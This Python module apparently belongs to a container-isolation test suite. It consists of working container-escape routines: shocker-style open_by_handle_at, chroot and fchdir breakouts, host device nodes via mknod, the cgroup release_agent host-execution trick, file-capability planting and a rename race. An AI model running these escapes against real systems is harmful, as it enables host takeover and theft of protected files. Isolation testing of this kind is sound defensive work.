"""Out of the root by files: handles, chroot, open directories; devices; control groups; file permissions."""

import ctypes
import os
import stat
import struct
import time

import kernel
from run import Failed

CAP_DAC_OVERRIDE, DEFAULT_CAPABILITIES, PR_CAPBSET_READ = 1, 0xA80425FB, 23
DOTS = "../" * 20


def by_handle(handle_type, handle, anchor, expected):
    """open_by_handle_at(2), as "shocker" did: a file by its number on the file system that `anchor` is on."""
    content = bytes.fromhex(handle)
    packed = ctypes.create_string_buffer(
        len(content).to_bytes(4, "little") + handle_type.to_bytes(4, "little") + content
    )
    anchor_fd = os.open(anchor, os.O_RDONLY)
    fd = kernel.call("open_by_handle_at", anchor_fd, packed, os.O_RDONLY)
    found = os.read(fd, 256).decode()
    assert found == expected, found
    return found


def double_chroot(secret_path):
    """chroot(2) into a directory while the working directory stays outside of it, then go up from there."""
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    return kernel.read_some(f"{DOTS}{secret_path.lstrip('/')}")


def open_directory(secret_path):
    """Keep the root open as a descriptor, chroot(2) below it, and come back by fchdir(2), above everything."""
    os.makedirs("/tmp/jail", exist_ok=True)
    fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot("/tmp/jail")
    os.fchdir(fd)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return kernel.read_some(secret_path)


def device(kind, major, minor, path="/tmp/node", make=True):
    """mknod(2) a device of the host, or take one that is there, and read from it."""
    if make:
        os.mknod(path, 0o600 | {"b": stat.S_IFBLK, "c": stat.S_IFCHR}[kind], os.makedev(major, minor))
    return kernel.read_some(path, 8192)[:64]


def release_agent(agent, proof):
    """Mount a v1 hierarchy of control groups, and have the kernel run a program of the host's when a group empties."""
    os.makedirs("/tmp/cg", exist_ok=True)
    kernel.mount("none", "/tmp/cg", "cgroup", 0, f"none,name=smpx{os.getpid()}.{time.time_ns()}")
    try:
        os.mkdir("/tmp/cg/child")
        for path, text in (("release_agent", agent), ("child/notify_on_release", "1")):
            with open(f"/tmp/cg/{path}", "w") as file:
                file.write(text)
        if os.fork() == 0:
            with open("/tmp/cg/child/cgroup.procs", "w") as file:
                file.write("0")
            os._exit(0)
        os.wait()
        time.sleep(0.2)
    finally:
        os.rmdir("/tmp/cg/child")
        time.sleep(0.5)  # or the hierarchy stays, with no mount
        kernel.call("umount2", "/tmp/cg", 0)
    return f"{agent} should have made {proof}"


def write_cgroups():
    """Open what control groups there are to see for writing: limits, device rules, members, release agents."""
    tried = 0
    for parent, _, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            if name.endswith((".max", "_limit_in_bytes", ".procs", ".allow", "_quota_us", "release_agent")):
                tried += 1
                try:
                    os.close(os.open(f"{parent}/{name}", os.O_WRONLY))
                except OSError:
                    continue
                return f"{parent}/{name}"
    raise Failed(f"{tried} files")


def make_cgroup():
    """Make a control group of one's own."""
    errors = []
    for entry in ["/sys/fs/cgroup", *(f"/sys/fs/cgroup/{name}" for name in os.listdir("/sys/fs/cgroup"))]:
        if os.path.exists(f"{entry}/cgroup.procs"):
            try:
                os.mkdir(f"{entry}/smpx")
                os.rmdir(f"{entry}/smpx")
                return entry
            except OSError as error:
                errors.append(str(error))
    raise Failed(errors)


def denied_to_my_group(path):
    """As a member of a group that a file's mode shuts out, read it by a setgid program that takes another group."""
    return kernel.read_some(path), os.getgroups(), os.getresgid()


def groups(declared):
    """Look for supplementary groups beyond those that were asked for."""
    found = set(os.getgroups()) - set(declared)
    if not found:
        raise Failed(f"groups {os.getgroups()}")
    return found


def inherited_capability(path):
    """Read what only CAP_DAC_OVERRIDE may, by a program whose file grants what its caller could inherit."""
    with open("/proc/self/status") as file:
        sets = [line.split() for line in file if line.startswith("Cap")]
    try:
        return kernel.read_some(path), sets
    except OSError as error:
        raise Failed(f"{error}, {sets}") from error


def make_inheritable(path):
    """Mark a program as root in a container may: inheritable CAP_DAC_OVERRIDE takes effect (capabilities(7))."""
    os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 0, 1 << CAP_DAC_OVERRIDE, 0, 0))
    return "marked"


def capability_sets():
    """Look for capabilities that programs would inherit, or keep as another user."""
    with open("/proc/self/status") as file:
        rows = dict(line.split(":\t", 1) for line in file if line.startswith("Cap"))
    found = {name: rows[name].strip() for name in ("CapInh", "CapAmb") if int(rows[name], 16)}
    if not found:
        raise Failed("none")
    return found


def bounding_set():
    """Look for capabilities beyond Docker's 14 in the bounding set: root has them after its next execve."""
    found = []
    for number in range(64):
        try:
            if kernel.call("prctl", PR_CAPBSET_READ, number, 0, 0, 0) and not DEFAULT_CAPABILITIES >> number & 1:
                found.append(number)
        except OSError:
            break  # there are no more
    if not found:
        raise Failed("no more than the default")
    return found


def exchange_forever(one, other):
    """Swap two names as fast as it goes, until killed: what is checked is not what is used a moment later."""
    kernel.exchange(one, other)
    print("READY", flush=True)
    while True:
        try:
            kernel.exchange(one, other)
        except OSError:
            continue  # busy for a moment, by what is done to them elsewhere
